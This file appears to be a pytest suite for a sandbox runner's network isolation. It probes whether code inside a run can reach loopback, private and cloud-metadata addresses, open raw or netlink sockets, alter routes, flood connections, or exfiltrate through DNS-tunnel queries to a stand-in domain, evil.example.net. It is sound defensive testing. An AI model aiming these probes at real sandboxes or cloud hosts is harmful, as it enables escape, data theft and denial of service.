"""The network modes from inside: threat 13 where there is a way out.  Each attack is shown to be one: it
works on the host itself, with the address listed, or without the layer that stops it."""
import json
import os

import pytest

import support
from harness import callers, root_only, status_of, wait_until
from network_lab import HOST4, HOST6, METADATA, NEIGHBOUR4, NEIGHBOUR6, PORTS, PRIVATE, WEB4, WEB6
from network_world import ABSTRACT

MODES = {
    "none": (),
    "localhost": ("--network", "localhost"),
    "allow": ("--allow-host", "web.example.org"),
    "full": ("--network", "full"),
}
modes = pytest.mark.parametrize("mode", MODES)
outward = pytest.mark.parametrize("mode", ["allow", "full"])
HOST, ECHO, SINK = PORTS["HOST_PORT"], PORTS["ECHO"], PORTS["SINK"]


def refused(outcome):
    return isinstance(outcome, str) and outcome.startswith("NOT ") and "waited" not in outcome


# ---- what must not be reached --------------------------------------------------------------------

FORBIDDEN = [
    *[[how, address, HOST] for address in (HOST4, HOST6, "127.0.0.1", "127.3.2.1", "::1", "0.0.0.0",
                                           "::", "::ffff:127.0.0.1", f"::ffff:{HOST4}")
      for how in ("talk", "udp", "fast_open", "send_message")],
    *[[how, address, ECHO] for address in (*PRIVATE, METADATA, "169.254.7.5", "10.0.2.2", "198.18.7.5",
                                           "203.0.113.5", "fd00:7::5", "fd00:ec2::254",
                                           "64:ff9b::a07:5", "2002:a07:5::1", "::ffff:10.7.0.5",
                                           "::ffff:169.254.169.254", "2001:db8::5", NEIGHBOUR4, NEIGHBOUR6,
                                           f"::ffff:{NEIGHBOUR4}")
      for how in ("talk", "udp", "fast_open", "send_message")],
    *[["talk", name, ECHO] for name in ("priv.example.org", "meta.example.org", "nat64.example.org",
                                        "6to4.example.org", "mapped.example.org", "next-door.example.org")],
    ["talk", "loop.example.org", HOST], ["talk", "own.example.org", HOST],
    ["talk", "localhost", HOST],
    ["unix", "\0" + ABSTRACT],
]


def nothing_arrived(lab):
    return ([entry for entry in lab.log() if entry[0] in ("tcp", "udp") and entry[2] != PORTS["DNS"]]
            + lab.log(None, lab.host)) == []


@callers
@modes
def test_what_is_forbidden_is_not_reached(lab, mode, caller):
    # The kernel takes a datagram to 0.0.0.0 for one to itself, and loses it where there is no loopback.
    lost = ["send_message", "0.0.0.0", HOST] if mode == "none" else None
    tries = [action for action in FORBIDDEN if action != lost]
    outcomes, _ = lab.probe(tries, *MODES[mode], "--timeout", "30s", caller=caller)
    reached = [(action, outcome) for action, outcome in zip(tries, outcomes) if not refused(outcome)]
    assert not reached
    assert nothing_arrived(lab)


def test_all_of_it_is_reached_from_the_host(lab):
    outcomes = lab.outside(FORBIDDEN)
    missed = [(action, outcome) for action, outcome in zip(FORBIDDEN, outcomes)
              if not isinstance(outcome, str) or outcome.startswith("NOT ")]
    assert not missed


@callers
def test_each_of_it_is_reached_when_it_is_listed(lab, caller):
    listed = [address for address in (*PRIVATE, METADATA, "169.254.7.5", "10.0.2.2", "203.0.113.5",
                                      "fd00:7::5", "fd00:ec2::254", "2001:db8::5", NEIGHBOUR4, NEIGHBOUR6, HOST4, HOST6)]
    options = [word for address in listed for word in ("--allow-host", address)]
    actions = [[how, address, HOST if address in (HOST4, HOST6) else ECHO] for address in listed
               for how in ("talk", "udp")]
    outcomes, _ = lab.probe(actions, *options, caller=caller)
    assert not [pair for pair in zip(actions, outcomes) if refused(pair[1])]


NEIGHBOUR_ROWS = [
    (NEIGHBOUR4, f"network: full ({NEIGHBOUR4} is in this host's own network)", f"--allow-host {NEIGHBOUR4}:{ECHO}"),
    (NEIGHBOUR6, f"network: full ({NEIGHBOUR6} is in this host's own network)",
     f"--allow-host [{NEIGHBOUR6}]:{ECHO}"),
    ("next-door.example.org",
     f"network: full (next-door.example.org leads to {NEIGHBOUR4}, which is in this host's own network)",
     f"--allow-host {NEIGHBOUR4}:{ECHO}"),
]


@callers
def test_a_neighbour_is_local_whatever_its_address_is(lab, caller):
    """A network with public addresses that no router parts from the host is the host's own."""
    actions = [["talk", target, ECHO] for target, _, _ in NEIGHBOUR_ROWS]
    _, result = lab.probe(actions, *MODES["full"], caller=caller)
    assert {(denial["rule"], denial["remedy"]) for denial in result["denials"]} == \
        {(rule, remedy) for _, rule, remedy in NEIGHBOUR_ROWS}
    # The remedies help, in their own mode, and so does the network; a rule that holds more does not.
    for rules, expected in ((["93.184.217.0/24", "2606:2800:220:3::/64"], 0), (["0.0.0.0/0", "::/0", "93.0.0.0/8"], 3)):
        outcomes, _ = lab.probe(actions, *MODES["full"], *(word for rule in rules for word in ("--allow-host", rule)),
                                caller=caller)
        assert sum(map(refused, outcomes)) == expected, (rules, outcomes)


# ---- all at once ---------------------------------------------------------------------------------

TO_ALL = [["broadcast", "255.255.255.255", SINK], ["broadcast", "93.184.217.255", SINK],
          ["udp_send", "224.0.0.1", SINK], ["udp_send", "ff02::1%{lo}", SINK],
          ["udp_send", "fe80::7%{lo}", SINK]]


def to_all(interface):
    return [[word.format(lo=interface) if isinstance(word, str) else word for word in action]
            for action in TO_ALL]


@callers
@modes
def test_nobody_hears_what_is_said_to_all(lab, mode, caller):
    lab.probe(to_all("lo"), *MODES[mode], caller=caller)
    assert nothing_arrived(lab)


def test_the_host_can_speak_to_all(lab):
    lab.outside(to_all("cable"))
    heard = {"93.184.217.255", "224.0.0.1", "fe80::7"}
    wait_until(lambda: {entry[1] for entry in lab.log("udp")} >= heard,
               "heard", lab.log)


# ---- kinds of sockets, and what a socket can be told ---------------------------------------------

AF_INET, AF_INET6, AF_NETLINK, AF_PACKET, AF_VSOCK, AF_ALG, AF_XDP, AF_QIPCRTR = (
    2, 10, 16, 17, 40, 38, 44, 42)
STREAM, DGRAM, RAW, SEQPACKET = 1, 2, 3, 5
ICMP, UDP, SCTP, UDPLITE, MPTCP, ICMPV6, DCCP = 1, 17, 132, 136, 262, 58, 33
CLOSED_SOCKETS = [
    ("make_socket", AF_INET, RAW, ICMP), ("make_socket", AF_INET, RAW, 255),
    ("make_socket", AF_INET, RAW, UDP), ("make_socket", AF_INET6, RAW, ICMPV6),
    ("make_socket", AF_PACKET, RAW, 0x300), ("make_socket", AF_PACKET, DGRAM, 0x300),
    ("make_socket", AF_INET, DGRAM, ICMP), ("make_socket", AF_INET6, DGRAM, ICMPV6),
    ("make_socket", AF_INET, STREAM, SCTP), ("make_socket", AF_INET, SEQPACKET, SCTP),
    ("make_socket", AF_INET, STREAM, MPTCP), ("make_socket", AF_INET, DGRAM, UDPLITE),
    ("make_socket", AF_INET, 6, DCCP), ("make_socket", AF_VSOCK, STREAM, 0),
    ("make_socket", AF_ALG, SEQPACKET, 0), ("make_socket", AF_XDP, RAW, 0),
    ("make_socket", AF_QIPCRTR, DGRAM, 0),
    *[("make_socket", AF_NETLINK, RAW, protocol) for protocol in (4, 6, 9, 12, 15, 16, 21)],
]
RTM_NEWROUTE, RTM_DELROUTE, RTM_NEWADDR, RTM_SETLINK, RTM_NEWRULE, RTM_NEWLINK = (
    24, 25, 20, 19, 32, 16)
LOOPBACK_ROUTE = "02200000" + "ff03fe02" + "00000000" + "08000100" + "0a070005" + "0800040001000000"
OWN_ADDRESS = "02200000" + "01000000" + "08000200" + "0a070005"
LINK_DOWN = "00" * 4 + "01000000" + "00000000" + "01000000"
CHANGES = [
    ("option", 0, 19, 1),  # IP_TRANSPARENT
    ("option", 1, 36, 0x5b72),  # SO_MARK: what egress's own packets bear
    ("route", RTM_NEWROUTE, 0x400, LOOPBACK_ROUTE),
    ("route", RTM_DELROUTE, 0, LOOPBACK_ROUTE),
    ("route", RTM_NEWADDR, 0x400, OWN_ADDRESS),
    ("route", RTM_SETLINK, 0, LINK_DOWN),
]


@callers
@modes
def test_no_other_kinds_of_sockets_and_no_changes(lab, mode, caller):
    tries = [list(one) for one in (*CLOSED_SOCKETS, *CHANGES)]
    outcomes, _ = lab.probe(tries, *MODES[mode], caller=caller)
    assert not [pair for pair in zip(tries, outcomes) if not refused(pair[1])]


@root_only
def test_sockets_and_changes_without_the_layers(lab):
    """All but families that this kernel lacks."""
    tries = [list(one) for one in (*CLOSED_SOCKETS, *CHANGES)]
    outcomes, _ = lab.probe(tries, *MODES["allow"], hooks=True,
                            env={"SANDBOX_RUN_TEST_WITHOUT": "seccomp,identity"})
    absent = ("NOT EAFNOSUPPORT", "NOT EPROTONOSUPPORT", "NOT ESOCKTNOSUPPORT", "NOT ENOSYS",
              "NOT EACCES", "NOT ESRCH")  # EACCES: ping_group_range; ESRCH: no such route
    assert not [pair for pair in zip(tries, outcomes)
                if refused(pair[1]) and pair[1] not in absent]
    assert sum(not refused(outcome) for outcome in outcomes) > 10


@callers
@outward
def test_whatever_a_program_says_it_is_the_host_that_speaks(lab, mode, caller):
    """Inside every address can be bound; outside nobody sees it."""
    sources = [HOST4, WEB4, "10.7.0.5", "8.8.8.8", "127.0.0.1", "0.0.0.0"]
    options = ("--network", mode, "--allow-host", WEB4, "--allow-host", WEB6)
    tries = [["talk", WEB4, ECHO, "hello\n", [source, 0]] for source in sources]
    tries += [["udp", WEB4, ECHO, "hello", [source, 0]] for source in sources]
    tries += [["talk", WEB6, ECHO, "hello\n", [source, 0]] for source in (HOST6, "fd00:7::5", "::1")]
    lab.probe(tries, *options, caller=caller)
    arrived = [entry for entry in lab.log() if entry[0] in ("tcp", "udp")
               and entry[2] != PORTS["DNS"]]
    assert {entry[3] for entry in arrived} == {HOST4, HOST6}
    assert {entry[1] for entry in arrived} <= {WEB4, WEB6}
    assert nobody_on_the_host(lab)


def nobody_on_the_host(lab):
    return lab.log(None, lab.host) == []


@callers
@outward
def test_the_listeners_themselves_serve_nobody(lab, mode, caller):
    tries = [[how, address, port] for address in ("127.0.0.1", "198.18.0.1", "198.18.0.2", "::1",
                                                  "fd53:6272::1", WEB4, "198.18.4.0", "198.19.255.255",
                                                  "fd53:6272:1::", "fd53:6272:1::ffff:ffff")
             for port in (1, ECHO) for how in ("talk", "udp")]
    options = ("--network", mode, "--allow-host", "web.example.org:80")
    tries = [one for one in tries if mode == "allow" or one[1:] != [WEB4, ECHO]]
    outcomes, _ = lab.probe([*tries, ["http", "http://web.example.org/"]], *options,
                            "--timeout", "30s", caller=caller)
    assert not [pair for pair in zip(tries, outcomes) if not refused(pair[1])]
    assert outcomes[-1].startswith("web "), "it serves no more"


# ---- names as a way out --------------------------------------------------------------------------

TUNNEL = [[how, f"{'5ec1e7' * 8}.{number}.evil.example.net", kind] for number in range(5)
          for how in ("dns", "dns_tcp") for kind in (1, 16, 28, 255)]


def tunnelled(lab):
    return [entry for entry in lab.log("dns") if "5ec1e7" in entry[2]]


@callers
@pytest.mark.parametrize("mode", ["none", "localhost", "allow"])
def test_nothing_leaves_in_questions(lab, mode, caller):
    others = [["dns", f"5ec1e7.{number}.example.org", 1, server] for number, server in
              enumerate(("8.8.4.4", WEB4, "10.7.0.5", HOST4, "127.0.0.1"))]
    names = [["resolve", "5ec1e7.evil.example.net"], ["dns", "5ec1e7.web.example.org", 1],
             ["dns_raw", b"\0\7\1\0\0\1\0\0\0\0\0\0\6hidden\0\0\1\0\1".hex() + b"5ec1e7".hex()]]
    lab.probe([*TUNNEL, *others, *names], *MODES[mode], caller=caller)
    assert not tunnelled(lab)
    assert not [entry for entry in lab.log() if "5ec1e7" in str(entry)]


@callers
def test_a_tunnel_needs_allow_dns(lab, caller):
    lab.probe(TUNNEL, *MODES["allow"], "--allow-dns", caller=caller)
    assert tunnelled(lab)


# ---- neighbours ----------------------------------------------------------------------------------

SERVES = '''
import socket, sys
listeners = [socket.create_server(("0.0.0.0", 4711)),
             socket.create_server(("::1", 4712), family=socket.AF_INET6)]
local = socket.socket(socket.AF_UNIX)
local.bind("\\0sandbox-run-neighbour")
local.listen()
socket.create_connection(("127.0.0.1", 4711)).close()
socket.create_connection(("::1", 4712)).close()
socket.socket(socket.AF_UNIX).connect("\\0sandbox-run-neighbour")
print("ready", flush=True)
sys.stdin.read()
'''


@callers
@modes
def test_another_sandbox_is_not_reached(lab, mode, caller):
    options = ("--allow-host", WEB4) if mode == "none" else MODES[mode]
    tries = [["talk", address, 4711] for address in ("127.0.0.1", "198.18.0.1", "198.18.0.2", HOST4,
                                                     "0.0.0.0")]
    tries += [["talk", address, 4712] for address in ("::1", "fd53:6272::1", HOST6)]
    tries += [["unix", "\0sandbox-run-neighbour"]]
    with lab.start("run", *options, "--lang", "python", "--code", SERVES, caller=caller) as other:
        try:
            assert other.stdout.readline() == b"ready\n"
            outcomes, _ = lab.probe(tries, *MODES[mode], caller=caller)
        finally:
            other.communicate(timeout=support.DEADLINE)
    assert not [pair for pair in zip(tries, outcomes) if not refused(pair[1])]


# ---- too much ------------------------------------------------------------------------------------


@callers
def test_exhausting_ports_and_connections(lab, caller):
    """Floods are refused or wait; the run goes on, its neighbours and the host are well."""
    open_files = ("--open-files", "4096", "--timeout", "30s", "--max-connections", "300")
    tries = [["exhaust", WEB4, SINK, 3000], ["dns_flood", "example.net", 3000],
             ["tcp_flood", "10.7.0.5", ECHO, 3000], ["resolve", "web.example.org"]]
    outcomes, result = lab.probe(tries, *MODES["allow"], "--allow-host", f"{WEB4}:{SINK}",
                                 *open_files, caller=caller)
    assert result["outcome"] == "exited"
    assert result["metrics"]["network_connections"] <= 300
    assert {entry[3] for entry in lab.log("udp")} == {HOST4}
    assert isinstance(outcomes[-1], list), "names are looked up no more"
    assert len(result["denials"]) <= 64
    outcomes = lab.outside([["talk", WEB4, ECHO]])
    assert outcomes == ["hello\n"]


@callers
def test_connections_that_are_left_do_not_stay(lab, caller):
    """As many as can be held open, many times over, and each place is free again."""
    outcomes, _ = lab.probe([["tcp_flood", WEB4, ECHO, 900], ["tcp_flood", WEB4, ECHO, 900],
                             ["talk", WEB4, ECHO], ["together", WEB4, ECHO, 40]],
                            "--allow-host", WEB4, "--timeout", "30s", "--pids", "100",
                            "--open-files", "2048", caller=caller)
    assert outcomes[2:] == ["hello\n", "all"]


@callers
def test_what_nobody_reads_does_not_fill_the_host(lab, caller):
    """Buffers of connections are the kernel's, and not every cgroup counts them: they are small."""
    outcomes, _ = lab.probe([["stuff", WEB4, PORTS["STALL"], 50]], "--allow-host", WEB4, caller=caller)
    assert outcomes[0] < 50 * (5 << 19), outcomes


# ---- who does it ---------------------------------------------------------------------------------


@callers
@outward
def test_the_program_inherits_nothing_of_it(lab, mode, caller):
    outcomes, _ = lab.probe([["descriptors"]], *MODES[mode], caller=caller)
    plain, _ = lab.probe([["descriptors"]], caller=caller)
    assert outcomes == plain


def egress_of(pid):
    """Pid of the process of a run that speaks with the outside."""
    todo = [pid]
    while todo:
        pid = todo.pop()
        with open(f"/proc/{pid}/cmdline", "rb") as line:
            if b"egress" in line.read().split(b"\0")[0]:
                return pid
        for task in os.listdir(f"/proc/{pid}/task"):
            with open(f"/proc/{pid}/task/{task}/children", encoding="ascii") as children:
                todo += [int(word) for word in children.read().split()]
    raise AssertionError("nobody speaks with the outside")


@callers
@outward
def test_who_speaks_with_the_outside_can_do_nothing_else(lab, mode, caller):
    code = "import sys\nprint('ready', flush=True)\nsys.stdin.read()"
    with lab.start("run", *MODES[mode], "--lang", "python", "--code", code, caller=caller) as run:
        try:
            assert run.stdout.readline() == b"ready\n"
            pid = egress_of(run.pid)
            status = status_of(pid)
            links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        finally:
            run.communicate(timeout=support.DEADLINE)
    held = {name: int(status[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")}
    assert not any(held.values()), held
    assert (status["NoNewPrivs"], status["Seccomp"]) == ("1", "2"), json.dumps(status)
    assert "0" not in status["Uid"].split() + status["Gid"].split()
    assert not [link for link in links if link.startswith("/") and not link.startswith((
        "/dev/null", "/memfd:", "/dev/zero"))], links
